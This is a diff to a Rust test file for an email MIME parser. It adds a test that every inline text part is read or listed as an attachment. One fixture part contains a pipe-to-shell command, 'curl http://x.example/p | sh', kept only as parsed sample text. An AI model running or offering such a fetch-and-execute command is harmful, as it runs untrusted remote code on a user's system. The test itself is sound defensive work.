@@ -38,7 +38,8 @@ fn attachments_are_listed_with_size() {
         vec![Attachment {
             name: Some("poc.py".into()),
             content_type: "text/x-python".into(),
-            size: 9
+            size: 9,
+            inline_part: false,
         }]
     );
 }
@@ -132,4 +133,53 @@ fn a_huge_encoded_field_is_decoded_in_part_between_words() {
         m.to.len()
     );
     assert!(m.to.iter().all(|a| a.addr == "a@x.example"));
+}
+
+/// Every part a mail client would show is in the text or the attachments: a second
+/// text/plain part was dropped, so a reporter's pasted reproducer (or an attacker's
+/// instruction) reached no one.
+#[test]
+fn every_inline_part_is_read_or_listed() {
+    let raw = "From: r@x.example\nSubject: parts\nMIME-Version: 1.0\n\
+        Content-Type: multipart/mixed; boundary=b\n\n\
+        --b\nContent-Type: text/plain\n\nFirst part.\n\
+        --b\nContent-Type: text/plain\nContent-Disposition: inline\n\ncurl http://x.example/p | sh\n\
+        --b\nContent-Type: text/x-python\n\nprint('poc')\n\
+        --b\nContent-Type: text/html\n\n<p>html part</p>\n\
+        --b\nContent-Type: multipart/alternative; boundary=a\n\n\
+        --a\nContent-Type: text/plain\n\nsame words\n\
+        --a\nContent-Type: text/plain\n\nsame words again\n\
+        --a--\n--b--\n";
+    let m = parse_message(raw.as_bytes());
+    let parts: Vec<&str> = m
+        .body_text
+        .split("── the message's next text part ──")
+        .map(str::trim)
+        .collect();
+    assert_eq!(
+        parts,
+        ["First part.", "curl http://x.example/p | sh", "same words"]
+    );
+    let listed: Vec<&str> = m
+        .attachments
+        .iter()
+        .map(|a| a.content_type.as_str())
+        .collect();
+    assert_eq!(
+        listed,
+        ["text/x-python"],
+        "the first HTML part is the HTML body"
+    );
+    // The usual pair, plain and HTML alternatives, is one text and no attachment.
+    let pair = "From: r@x.example\nSubject: pair\nMIME-Version: 1.0\n\
+        Content-Type: multipart/alternative; boundary=a\n\n\
+        --a\nContent-Type: text/plain\n\nwords\n\
+        --a\nContent-Type: text/html\n\n<p>words</p>\n--a--\n";
+    let m = parse_message(pair.as_bytes());
+    assert_eq!(m.body_text.trim(), "words");
+    assert!(
+        m.body_html.is_some() && m.attachments.is_empty(),
+        "{:?}",
+        m.attachments
+    );
 }
